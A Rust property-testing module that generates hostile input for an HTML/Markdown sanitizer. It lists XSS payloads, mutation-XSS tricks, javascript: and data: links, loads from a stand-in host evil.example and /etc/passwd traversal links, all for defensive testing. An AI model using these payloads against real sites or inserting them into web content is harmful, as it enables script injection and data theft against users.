//! Texts that try to run scripts, escape from their element, or imitate Postil's markup.

use proptest::collection::vec;
use proptest::prelude::*;
use proptest::sample::select;

/// Attacks in raw HTML. When they are concatenated, parts of one can hide in another.
const FRAGMENTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT/x>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<style>*{display:none}</style>",
    "<style><!--</style><img src=x onerror=alert(1)>-->",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\">o</object>",
    "<embed src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math href=\"javascript:alert(1)\">m</math>",
    "<form action=\"javascript:alert(1)\"><input type=submit formaction=javascript:alert(1)></form>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><slot></slot></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<plaintext>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<listing>&lt;img src=x onerror=alert(1)></listing>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<img src=//evil.example/x.png srcset=\"https://evil.example/y 2x\">",
    "<image href=x onerror=alert(1)>",
    "<video src=//evil.example/v poster=//evil.example/p onloadstart=alert(1)>",
    "<a href=\"javascript:alert(1)\">j</a>",
    "<a href=\"java\nscript:alert(1)\">j</a>",
    "<a href=\"java&#9;script:alert(1)\">j</a>",
    "<a href=\"&#1; javascript&colon;alert(1)\">j</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">j</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">j</a>",
    "<a href=\"vbscript:x\">v</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">d</a>",
    "<a href=\"//evil.example\" target=_blank ping=//evil.example>p</a>",
    "<a href=\"\\\\evil.example\\x\">b</a>",
    "<a href=x style=\"position:fixed;inset:0\" onmouseover=alert(1)>o</a>",
    "<a class=note-ref href=#note-n1 data-number=9 role=doc-noteref></a>",
    "<a name=source id=note-n1>n</a>",
    "<mark id=passage-n1 data-notes=n1>m</mark>",
    "<mark data-notes=\"n1\" data-kinds=\"k\" data-tones=\"-\">m",
    "</mark></mark>",
    "</article></main></body></html>",
    "</article><article id=source>",
    "</p></li></ul></td></table></article>",
    "<div id=source>s</div>",
    "<div id=\"p-1\">s</div>",
    "<div id=\"a b&#10;c\" title=\"&quot;><script>alert(1)</script>\">d</div>",
    "<div id=\"x\" ID=\"y\" id=z>i</div>",
    "<p style=\"background:url(javascript:alert(1))\">s</p>",
    "<p dir=rtl lang=\"x\" onclick=alert(1) OnFocus=alert(1) autofocus tabindex=1>e</p>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<body onload=alert(1) class=x>",
    "<html onclick=alert(1) id=h>",
    "<frameset onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>s</summary>d</details>",
    "<dialog open>d</dialog>",
    "<marquee onstart=alert(1)>m</marquee>",
    "<table background=//evil.example/x><tr><td onclick=alert(1)>t",
    "<table><a href=#x><td></a></table>",
    "<a><table><a>x</a></table></a>",
    "<b><p><i></b>x</i></p>",
    "<!-- open",
    "<!--><script>alert(1)</script>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml ?><script>alert(1)</script>",
    "<!DOCTYPE x><script>alert(1)</script>",
    "<div title=\"open",
    "<div title='open",
    "<a href=\"x",
    "<p/onclick=alert(1)",
    "<\u{0}script>alert(1)</script>",
    "<img\u{c}src=x\u{c}onerror=alert(1)>",
    "<custom-element onclick=alert(1) is=x>c</custom-element>",
    "<slot name=x>s</slot><portal src=//evil.example>",
    "[x]: javascript:alert(1)\n\n[x]",
];

/// Attacks in Markdown.
const MARKDOWN: &[&str] = &[
    "[a](javascript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](&#1;javascript:alert(1))",
    "[a](JAVASCRIPT&colon;alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4= \"x\\\" onclick=alert(1)\")",
    "[a](vbscript:x 'y\" onclick=\"alert(1)')",
    "![a\" onerror=\"alert(1)](x \"y\\\" onerror=alert(1)\")",
    "![a](https://evil.example/x.png)",
    "![a](//evil.example/x.png)",
    "<javascript:alert(1)>",
    "[a](../../../../etc/passwd)",
    "[a](file:///etc/passwd)",
    "```\" onclick=\"alert(1)\nx\n```",
    "# x\" onclick=\"alert(1) <script>",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: f",
];

/// A single attack.
pub(crate) fn fragment() -> BoxedStrategy<String> {
    prop_oneof![4 => select(FRAGMENTS), 1 => select(MARKDOWN)].prop_map(str::to_owned).boxed()
}

/// Attacks, complete and partial, on separate lines and within words.
pub(crate) fn text() -> BoxedStrategy<String> {
    let whole = fragment();
    let part = (fragment(), any::<prop::sample::Index>(), any::<bool>()).prop_map(|(fragment, at, front)| {
        let at = at.index(fragment.len() + 1);
        let at = (0..=at).rev().find(|&at| fragment.is_char_boundary(at)).unwrap_or(0);
        fragment[if front { 0..at } else { at..fragment.len() }].to_owned()
    });
    let between =
        select(vec!["", "", " ", "\n", "\n\n", "\n\n- ", "\n\n> ", " word ", "\n\n|", "|", "`", "**"]);
    vec((prop_oneof![whole, part], between), 1..8)
        .prop_map(|parts| parts.into_iter().map(|(fragment, between)| fragment + between).collect())
        .boxed()
}
